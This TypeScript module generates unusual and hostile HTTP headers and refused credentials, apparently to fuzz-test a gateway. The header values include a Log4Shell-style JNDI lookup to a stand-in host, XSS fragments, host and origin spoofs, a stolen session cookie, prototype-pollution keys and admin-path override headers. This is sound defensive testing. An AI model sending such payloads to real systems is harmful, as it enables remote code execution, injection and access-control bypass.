/** Headers with unusual, invalid or dangerous values. Pure. */
import type { HttpRequest } from '../../support/http/http-request.js';
import type { Random } from '../../support/run/random.js';
import { OPEN_KEY } from '../credentials.js';

type Header = HttpRequest['headers'][number];

/** The origins that the gateway allows. */
export const CORS_ORIGINS = ['https://map.example', 'https://gpx.example:8443'];

const ORIGINS = [
  ...CORS_ORIGINS,
  'null',
  '*',
  'https://evil.example',
  'https://map.example.evil.example',
  'https://MAP.example',
  'http://map.example',
  'https://map.example:443',
  'https://map.example/',
  'https://map.example, https://evil.example',
  'chrome-extension://abcdefghijklmnop',
  'moz-extension://00000000-0000-0000-0000-000000000000',
  'chrome-extension://a b',
  'safari-web-extension://\xe4',
  'file://',
  '',
];

/** Few of them are valid, because the gateway renders its documents again for each valid one. */
const HOSTS = [
  '',
  ' ',
  'localhost',
  '127.0.0.1:99999',
  '[::1]',
  '[::1',
  '[zz]',
  'a b',
  'a/b',
  'a@b',
  'user:pass@host',
  'host:port',
  'host:-1',
  'host:80:80',
  '..',
  'a..b',
  '-',
  '_',
  'xn--a',
  '\xfcber.example',
  'a'.repeat(253),
  'a'.repeat(254),
  'a'.repeat(8000),
  '<script>',
  '"><img src=x>',
  '999.999.999.999',
  '0x7f.1',
  'example.com#',
  'example.com?',
  'LOCALHOST:8080',
  'localhost.',
  'localhost:',
  'a.localhost',
  'localhost, evil.example',
  'localhost evil.example',
  '127.1',
  '2130706433',
  '0',
  '0.0.0.0',
  '[::]',
  '[::ffff:127.0.0.1]',
  '[0:0:0:0:0:0:0:1]:80',
  '[::1%25lo]',
  '127.0.0.1.nip.io',
  'http://localhost/',
  'localhost\t',
  'localhost%00.evil.example',
  '\xc5elvin',
];

const ETAGS = [
  '*',
  '"',
  '""',
  'W/',
  'W/"',
  'abc',
  '"a", "b", *',
  ',,,,',
  '"'.repeat(8000),
  '"a",'.repeat(2500),
  `W/${'"x" '.repeat(2000)}`,
];

const MEDIA_TYPES = [
  '',
  '*',
  '*/*;q=2',
  'image/jpeg',
  'text/xml;q=NaN',
  'application/xml',
  'example/unknown',
  ';;;;',
  ',,,,',
  'a/b;'.repeat(2500),
  'application/xml,'.repeat(600),
  `${' '.repeat(5000)}x`,
];

const CODINGS = [
  'gzip;q=0',
  'gzip;q=0.000,*;q=0',
  'identity;q=0',
  'br, zstd',
  'gzip;q=-1',
  '*',
  '*;q=0',
  'gzip gzip gzip',
  'gzip ; q = 0',
  `gzip${' '.repeat(8000)};q=0`,
  '* '.repeat(4000),
  'gzip,'.repeat(2000),
];

const FORWARDED = [
  'for=127.0.0.1;host=evil.example;proto=https',
  'for="[::1]";proto=javascript',
  'host=',
  'host="',
  'host="a;b"',
  'proto=https;proto=http',
  ';;;;====',
  'for=unknown, for=_hidden',
  'host=a b',
  'host=<script>',
  'host=evil.example:99999',
  'host="evil.example:80"',
  'host="evil\\.example"',
  'HOST=evil.example;Host=other.example',
  'host=a, host=b',
  'for="[2001:db8::1]:4711";by=203.0.113.43',
  'for="192.0.2.43, 198.51.100.17"',
  'for=192.0.2.43:_port;proto="ht\\tps"',
  'for=;by=;host=;proto=',
  'for = 192.0.2.43 ; proto = https',
  'for="\\"',
  '=,'.repeat(4000),
  ';'.repeat(8000),
];

const FORWARDED_PARTS = [
  'https',
  'javascript',
  'https,http',
  'evil.example',
  'a@b',
  '/prefix',
  '//evil.example',
  '/../..',
  '/%2e',
  '/a b',
  '/"onload=',
  '127.0.0.1, 10.0.0.1',
  '::1',
  '999',
  '-1',
  'evil.example:99999',
  'evil.example, other.example',
  '[::1]:x',
  'https ',
  'HTTPS',
  'wss',
  '/prefix/',
  '/pre%2ffix',
  'prefix',
  '192.0.2.1:8080',
  '[2001:db8::1]:443',
  'unknown',
  ', ,, ',
  '/a'.repeat(4000),
  '',
];

const RANGES = [
  'bytes=0-0',
  'bytes=-1',
  'bytes=9-1',
  'bytes=0-,0-,0-',
  'bytes=99999999999999999999-',
  'lines=1-2',
  `bytes=${'0-1,'.repeat(2000)}`,
  '=',
];

const DATES = ['yesterday', 'Thu, 32 Jan 2099 99:99:99 GMT', '0', '-1', '9'.repeat(100), ''];

const CONNECTIONS = [
  'keep-alive, keep-alive',
  'Keep-Alive',
  'host',
  'x-api-key',
  'te, trailers',
  '',
  ','.repeat(2000),
];

const GENERATORS: readonly (readonly [name: string, value: (random: Random) => string])[] = [
  ['Origin', (random) => random.pick(ORIGINS)],
  ['Host', (random) => random.pick(HOSTS)],
  ['If-None-Match', (random) => random.pick(ETAGS)],
  ['If-Match', (random) => random.pick(ETAGS)],
  ['If-Range', (random) => random.pick([...ETAGS, ...DATES])],
  ['If-Modified-Since', (random) => random.pick(DATES)],
  ['If-Unmodified-Since', (random) => random.pick(DATES)],
  ['Range', (random) => random.pick(RANGES)],
  ['Accept', (random) => random.pick(MEDIA_TYPES)],
  ['Accept-Encoding', (random) => random.pick(CODINGS)],
  ['Accept-Language', (random) => random.noise(50)],
  ['Accept-Version', (random) => random.pick(['1.x', '*', 'x'.repeat(500), '>=1 <2'])],
  ['Forwarded', (random) => random.pick(FORWARDED)],
  ['X-Forwarded-Host', (random) => random.pick([...FORWARDED_PARTS, ...HOSTS])],
  ['X-Forwarded-Proto', (random) => random.pick(FORWARDED_PARTS)],
  ['X-Forwarded-Prefix', (random) => random.pick(FORWARDED_PARTS)],
  ['X-Forwarded-For', (random) => random.pick(FORWARDED_PARTS)],
  ['Access-Control-Request-Method', (random) => random.pick(['GET', 'get', 'PUT', '\x80', '', 'a b', '*'])],
  [
    'Access-Control-Request-Headers',
    (random) => random.pick(['*', 'x-api-key', 'authorization,,,', ','.repeat(3000), '\xff'.repeat(100)]),
  ],
  ['Access-Control-Request-Private-Network', () => 'true'],
  ['Connection', (random) => random.pick(CONNECTIONS)],
  ['Content-Type', (random) => random.pick(MEDIA_TYPES)],
  ['Content-Encoding', (random) => random.pick(CODINGS)],
  ['Cookie', (random) => random.pick(['a', '=;=;=', '_strava4_session=stolen', ';'.repeat(5000)])],
  ['Referer', (random) => random.noise(100)],
  ['User-Agent', (random) => random.pick(['', '${jndi:ldap://x.example/a}', '\xff'.repeat(100)])],
  ['X-HTTP-Method-Override', (random) => random.pick(['PUT', 'DELETE', 'CONNECT'])],
  ['X-Original-URL', () => '/admin/status'],
  ['X-Rewrite-URL', () => '/metrics'],
  ['Via', (random) => `1.1 ${random.noise(30)}`],
  ['Max-Forwards', (random) => random.pick(['0', '-1', 'x'])],
  ['TE', (random) => random.pick(['trailers', 'deflate;q=0.5', '\xff'])],
  ['Trailer', (random) => random.pick(['Content-Length', 'X-API-Key', ','])],
  ['__proto__', (random) => random.noise(10)],
  ['constructor', (random) => random.noise(10)],
  ['X-Injected-Not', () => 'a\tb'],
];

/** One to four unusual headers. */
export function oddHeaders(random: Random): Header[] {
  return Array.from({ length: 1 + random.below(4) }, () => {
    const [name, value] = random.pick(GENERATORS);
    return [random.chance(0.2) ? name.toUpperCase() : name, value(random)] as const;
  });
}

/** Credentials that are refused. */
export function badCredentials(random: Random): Header[] {
  const basic = (text: string) => `Basic ${Buffer.from(text, 'latin1').toString('base64')}`;
  const authorization = random.pick([
    () => 'Bearer',
    () => 'Bearer ',
    () => `Bearer  ${invalidKey(random)} `,
    () => `Bearer ${invalidKey(random)}`,
    () => `bearer ${invalidKey(random)}`,
    () => `Bearer ${OPEN_KEY} ${OPEN_KEY}`,
    () => `Bearer "${OPEN_KEY}"`,
    () => `Bearer ${'x'.repeat(9000)}`,
    () => `Bearer\t${OPEN_KEY}`,
    () => OPEN_KEY,
    () => 'Basic',
    () => 'Basic !!!!',
    () => 'Basic ====',
    () => basic(''),
    () => basic(':'),
    () => basic('user'),
    () => basic(`user:${invalidKey(random)}`),
    () => basic(`${OPEN_KEY}:`),
    () => basic(`user:${OPEN_KEY}\0`),
    () => basic(`user:${'\xff'.repeat(100)}`),
    () => basic(`user:${'x'.repeat(6000)}`),
    () => `Digest username="x", response="${OPEN_KEY}"`,
    () => `Negotiate ${random.noise(100)}`,
    () => random.noise(100),
    () => '',
  ])();
  return [['Authorization', authorization]];
}

/** A text that resembles a valid key. */
export function invalidKey(random: Random): string {
  const at = random.below(OPEN_KEY.length);
  return random.pick([
    () => OPEN_KEY.slice(0, -1),
    () => `${OPEN_KEY}x`,
    () => OPEN_KEY.toUpperCase(),
    () => `${OPEN_KEY.slice(0, at)}\u007e${OPEN_KEY.slice(at + 1)}`,
    () => `${OPEN_KEY}%00`,
    () => `${OPEN_KEY},${OPEN_KEY}`,
    () => 'undefined',
    () => '__proto__',
    () => 'constructor',
    () => '*',
    () => 'x',
    () => 'x'.repeat(128),
    () => 'x'.repeat(129),
    () => 'x'.repeat(9000),
    () => random.text('abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-', 128),
  ])();
}
